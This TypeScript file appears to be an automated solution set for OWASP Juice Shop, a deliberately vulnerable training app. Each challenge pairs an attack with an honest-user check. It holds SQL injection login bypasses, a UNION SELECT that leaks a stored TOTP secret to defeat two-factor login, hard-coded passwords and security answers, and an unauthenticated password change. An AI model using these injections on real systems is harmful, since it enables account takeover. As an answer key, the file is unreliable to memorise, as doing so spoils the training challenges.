import { createGuardrails, generateSync } from 'otplib'
import { type Attacker, ownPassword } from '../attacker/attacker.js'
import { changesPassword, knowAnswer, logInAs, logsIn, resetsPassword } from '../features/accounts.js'
import { ensure, ensureStatus, proof } from '../proof.js'

export const changePasswordBenderChallenge = proof({
  async attack(me) {
    const { token } = await me.logIn('bender@juice-sh.op', 'OhG0dPlease1nsertLiquor!')
    await me.get('/rest/user/change-password?new=slurmCl4ssic&repeat=slurmCl4ssic', { token })
  },
  honest: changesPassword,
  isLast: true,
})

export const ghostLoginChallenge = proof({
  attack: logInAs("chris.pike@juice-sh.op'--"),
  otherAttacks: [logInAs("' or deletedAt IS NOT NULL--")],
  honest: logsIn,
})

export const oauthUserPasswordChallenge = proof({
  attack: logInAs('bjoern.kimminich@gmail.com', 'bW9jLmxpYW1nQGhjaW5pbW1pay5ucmVvamI='),
  honest: logsIn,
})

export const weakPasswordChallenge = proof({ attack: logInAs('admin@juice-sh.op', 'admin123'), honest: logsIn })

export const resetPasswordBenderChallenge = proof({
  attack: knowAnswer('bender@juice-sh.op', "Stop'n'Drop"),
  honest: resetsPassword,
  isLast: true,
})

export const resetPasswordBjoernChallenge = proof({
  attack: knowAnswer('bjoern@juice-sh.op', 'West-2082'),
  honest: resetsPassword,
})

export const resetPasswordBjoernOwaspChallenge = proof({
  attack: knowAnswer('bjoern@owasp.org', 'Zaya'),
  honest: resetsPassword,
})

export const resetPasswordJimChallenge = proof({
  attack: knowAnswer('jim@juice-sh.op', 'Samuel'),
  honest: resetsPassword,
  isLast: true,
})

const wurstbrot = 'wurstbrot@juice-sh.op'
const leak = `qwert')) UNION SELECT id,email,totpSecret,4,5,6,7,8,9 FROM Users WHERE email='${wurstbrot}'--`

const codeOf = ({ clock }: Attacker, secret: string) =>
  generateSync({
    secret,
    epoch: Math.floor(clock.now() / 1000),
    guardrails: createGuardrails({ MIN_SECRET_BYTES: 1 }),
  })

async function passSecondFactor(me: Attacker, email: string, password: string, secret: string) {
  const half = await me.post('/rest/user/login', { email, password })
  const { tmpToken } = half.json<{ data: { tmpToken: string } }>().data
  return me.post('/rest/2fa/verify', { tmpToken, totpToken: codeOf(me, secret) })
}

async function usesPhone(me: Attacker): Promise<void> {
  const email = 'owner.of.a.phone@juice.example'
  const { token } = await me.register(email)
  const { secret, setupToken } = (await me.get('/rest/2fa/status', { token })).json<{
    secret: string
    setupToken: string
  }>()
  const setup = { password: ownPassword, setupToken, initialToken: codeOf(me, secret) }
  ensureStatus(await me.post('/rest/2fa/setup', setup, { token }), 'a second factor')
  const reply = ensureStatus(await passSecondFactor(me, email, ownPassword, secret), 'a login with two factors')
  ensure(reply.text.includes(email), `The login with two factors answers ${reply.text}`)
}

export const twoFactorAuthUnsafeSecretStorageChallenge = proof({
  async attack(me) {
    const found = await me.get(`/rest/products/search?q=${encodeURIComponent(leak)}`)
    const [row] = found.json<{ data: { description: string }[] }>().data
    await passSecondFactor(me, `${wurstbrot}'--`, 'x', row?.description ?? '')
  },
  otherAttacks: [
    (me) => passSecondFactor(me, wurstbrot, 'EinBelegtesBrotMitSchinkenSCHINKEN!', 'IFTXE3SPOEYVURT2MRYGI52TKJ4HC3KH'),
  ],
  honest: usesPhone,
})
